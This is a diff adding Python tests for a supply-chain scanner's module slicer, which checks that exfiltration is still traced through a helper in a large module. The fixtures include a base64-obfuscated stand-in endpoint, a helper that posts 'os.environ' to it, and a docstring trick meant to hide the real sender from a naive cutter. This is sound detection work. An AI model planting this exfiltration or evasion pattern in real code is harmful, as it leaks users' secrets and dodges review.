@@ -1,0 +1,115 @@
+"""The cut of a helper module that summaries read (custody.scan.export_slice)."""
+
+from __future__ import annotations
+
+import ast
+import textwrap
+from pathlib import Path
+
+from custody.scan import Verdict
+from custody.scan.export_slice import exported_slice, exported_tree
+from tests.scan.builders import DEFAULT_NAME
+from tests.scan.test_flow import scan_package
+
+HELPER = textwrap.dedent(
+    '''
+    """A helper module: most of it is unrelated to what the importer calls."""
+    import base64
+    import requests
+
+    ENDPOINT = base64.b64decode("aHR0cHM6Ly8xOTIuMC4yLjcvYw==").decode()
+
+
+    class Unrelated:
+        def method(self):
+            return requests.get("https://example.org")
+
+
+    @staticmethod
+    def decorated(
+        value: int,
+    ) -> int:
+        return value + 1
+
+
+    def unrelated(
+        first: str,
+        second: str,
+    ) -> str:
+        """Joins two strings."""
+        return first + second
+
+
+    def _post(payload):
+        return requests.post(ENDPOINT, json=payload)
+
+
+    def send(payload):
+        return _post(payload)
+    '''
+)
+
+
+def _functions(tree: ast.Module | None) -> list[str]:
+    assert tree is not None
+    return [s.name for s in tree.body if isinstance(s, (ast.FunctionDef, ast.AsyncFunctionDef))]
+
+
+def _same_as_whole(source: str, names: frozenset[str]) -> None:
+    """The cut gives exactly the tree the slice of the whole parse gives."""
+    cut = exported_tree(source.encode(), names)
+    whole = exported_slice(ast.parse(source), names)
+    assert (ast.dump(cut, include_attributes=True) if cut else None) == (
+        ast.dump(whole, include_attributes=True) if whole else None
+    )
+
+
+def test_the_cut_keeps_the_called_functions_their_callees_and_module_statements() -> None:
+    tree = exported_tree(HELPER.encode(), frozenset({"send"}))
+    assert _functions(tree) == ["_post", "send"]
+    assert tree is not None
+    assert any(isinstance(s, ast.Assign) for s in tree.body)  # ENDPOINT, which `_post` reads
+    _same_as_whole(HELPER, frozenset({"send"}))
+    _same_as_whole(HELPER, frozenset({"unrelated", "decorated"}))
+
+
+DOCSTRING_TRICK = textwrap.dedent(
+    '''
+    def documented(payload):
+        """Sends it.
+    Note: this line of the docstring starts at column 0.
+    def send(payload): pass
+    """
+        return send(payload)
+    '''
+)
+"""A column-0 line inside a docstring that looks like the definition of the real helper: a cut of
+the source text at such lines parses, and drops `send` (and with it the request) from the slice."""
+
+
+def test_a_column_zero_line_inside_a_function_does_not_cut_it() -> None:
+    source = HELPER + DOCSTRING_TRICK
+    _same_as_whole(source, frozenset({"documented"}))
+    assert _functions(exported_tree(source.encode(), frozenset({"documented"}))) == [
+        "_post",
+        "send",
+        "documented",
+    ]
+
+
+def test_a_definition_look_alike_in_a_string_does_not_hide_the_real_one() -> None:
+    source = 'DOC = """\ndef send(payload):\n    pass\n"""\n' + HELPER
+    _same_as_whole(source, frozenset({"send"}))
+
+
+def test_a_module_that_defines_none_of_the_names_gives_nothing() -> None:
+    assert exported_tree(HELPER.encode(), frozenset({"Unrelated", "missing"})) is None
+    assert exported_tree(b"def broken(:\n", frozenset({"broken"})) is None
+
+
+def test_exfil_through_a_helper_in_a_large_module_is_still_followed(tmp_path: Path) -> None:
+    init = "import os\nfrom ._net import documented\ndocumented(dict(os.environ))\n"
+    files = {f"{DEFAULT_NAME}/__init__.py": init, f"{DEFAULT_NAME}/_net.py": HELPER + DOCSTRING_TRICK}
+    verdict, findings = scan_package(tmp_path, files)
+    assert verdict is Verdict.MALICIOUS, findings
+    assert any(f.startswith("exfil-flow") for f in findings), findings
